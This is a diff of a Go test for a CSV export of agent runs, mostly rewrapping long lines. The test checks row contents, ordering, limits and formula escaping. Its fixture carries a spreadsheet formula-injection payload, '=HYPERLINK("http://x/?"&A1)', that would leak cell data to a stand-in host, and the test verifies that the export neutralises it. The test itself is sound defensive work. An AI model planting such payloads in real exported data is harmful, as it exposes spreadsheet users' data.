@@ -16,7 +16,8 @@ import (
 func (s *stack) table(query string, headers ...string) []map[string]string {
 	s.t.Helper()
 	g := s.get("/runs?format=csv"+query, headers...)
-	if g.status != 200 || g.header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || g.header.Get("Content-Disposition") != `attachment; filename="runs.csv"` {
+	if g.status != 200 || g.header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" ||
+		g.header.Get("Content-Disposition") != `attachment; filename="runs.csv"` {
 		s.t.Fatalf("%d %v %s", g.status, g.header, g.body)
 	}
 	all, err := csv.NewReader(strings.NewReader(g.body)).ReadAll()
@@ -34,12 +35,14 @@ func (s *stack) table(query string, headers ...string) []map[string]string {
 	return rows
 }
 
-// A list of runs as CSV has every run that matches, its digits as they were sent, and no cell that a spreadsheet takes for a formula.
+// A list of runs as CSV has every run that matches, its digits as they were sent, and no cell that a spreadsheet takes
+// for a formula.
 func TestRunsAsATable(t *testing.T) {
 	t.Parallel()
 	s := start(t)
 	s.work(func(run.Queued) run.Outcome {
-		return run.Outcome{Status: run.Failed, Error: fault.New(fault.Internal, "command_failed", "=HYPERLINK(\"http://x/?\"&A1)\r\n@x")}
+		return run.Outcome{Status: run.Failed, Error: fault.New(fault.Internal, "command_failed",
+			"=HYPERLINK(\"http://x/?\"&A1)\r\n@x")}
 	}, echo("tool"))
 	s.post("/agents", `{"name":"nobodys","demands":{"tags":["none"]}}`).want(201)
 	failed := s.submit(`{"agent_name":"tool","parameters":{"10":9223372036854775807,"2":0.10,"a":"x,\"y\""}}`)
@@ -54,20 +57,25 @@ func TestRunsAsATable(t *testing.T) {
 	large := s.submit(`{"agent_name":"nobodys","prompt":"` + strings.Repeat("x", 20_000) + `"}`)
 
 	rows := s.table("&status=failed")
-	if len(rows) != 2 || rows[0]["run_id"] != again.RunID || rows[0]["retry_of"] != failed.RunID || rows[1]["retry_of"] != "" {
+	if len(rows) != 2 || rows[0]["run_id"] != again.RunID || rows[0]["retry_of"] != failed.RunID ||
+		rows[1]["retry_of"] != "" {
 		t.Fatalf("%v", rows)
 	}
 	one := into[run.Run](s.get("/runs/"+failed.RunID), 200)
 	for name, want := range map[string]string{
-		"run_id": failed.RunID, "session_id": failed.SessionID, "agent_name": "tool", "status": "failed", "type": "start_session", "mode": "async_poll", "attempt": "1",
-		"runner_id": one.RunnerID, "error": "command_failed", "message": "'=HYPERLINK(\"http://x/?\"&A1)\n@x", // the reader makes \n of \r\n
-		"parameters": `{"10":9223372036854775807,"2":0.10,"a":"x,\"y\""}`, "parameters_omitted": "false", "parent_session_id": "",
+		"run_id": failed.RunID, "session_id": failed.SessionID, "agent_name": "tool", "status": "failed",
+		"type": "start_session", "mode": "async_poll", "attempt": "1",
+		// the reader makes \n of \r\n
+		"runner_id": one.RunnerID, "error": "command_failed", "message": "'=HYPERLINK(\"http://x/?\"&A1)\n@x",
+		"parameters": `{"10":9223372036854775807,"2":0.10,"a":"x,\"y\""}`, "parameters_omitted": "false",
+		"parent_session_id": "",
 	} {
 		if got := rows[1][name]; got != want {
 			t.Errorf("%s: got %q, want %q", name, got, want)
 		}
 	}
-	for name, at := range map[string]string{"created_at": rows[1]["created_at"], "completed_at": rows[1]["completed_at"]} {
+	for name, at := range map[string]string{"created_at": rows[1]["created_at"],
+		"completed_at": rows[1]["completed_at"]} {
 		if raw := s.get("/runs/" + failed.RunID).body; at == "" || !strings.Contains(raw, `"`+name+`":"`+at+`"`) {
 			t.Errorf("%s is %q, the run is %s", name, at, raw)
 		}
@@ -78,10 +86,13 @@ func TestRunsAsATable(t *testing.T) {
 	for _, row := range all {
 		ids = append(ids, row["run_id"])
 	}
-	if len(all) != many+3 || all[0]["run_id"] != large.RunID || all[0]["parameters"] != "" || all[0]["parameters_omitted"] != "true" || !slices.IsSortedFunc(ids, func(a, b string) int { return strings.Compare(b, a) }) {
+	if len(all) != many+3 || all[0]["run_id"] != large.RunID || all[0]["parameters"] != "" ||
+		all[0]["parameters_omitted"] != "true" ||
+		!slices.IsSortedFunc(ids, func(a, b string) int { return strings.Compare(b, a) }) {
 		t.Errorf("%d rows, first %v", len(all), all[0])
 	}
-	if some := s.table("&limit=700&agent_name=nobodys"); len(some) != 700 || some[699]["parameters"] != fmt.Sprintf(`{"prompt":"%d"}`, many-699) {
+	if some := s.table("&limit=700&agent_name=nobodys"); len(some) != 700 ||
+		some[699]["parameters"] != fmt.Sprintf(`{"prompt":"%d"}`, many-699) {
 		t.Errorf("%d rows, last %v", len(some), some[len(some)-1])
 	}
 	page := into[projection.Page](s.get("/runs?limit=1000"), 200)
@@ -94,7 +105,8 @@ func TestRunsAsATable(t *testing.T) {
 	if none := s.table("&agent_name=nobody"); len(none) != 0 {
 		t.Errorf("%v", none)
 	}
-	for query, field := range map[string]string{"format=xls": "format", "format=csv&limit=100001": "limit", "format=csv&status=x": "status", "format=csv&cursor=x": "cursor"} {
+	for query, field := range map[string]string{"format=xls": "format", "format=csv&limit=100001": "limit",
+		"format=csv&status=x": "status", "format=csv&cursor=x": "cursor"} {
 		if m := s.get("/runs?" + query).want(400); m["field"] != field {
 			t.Errorf("%s: %v", query, m)
 		}
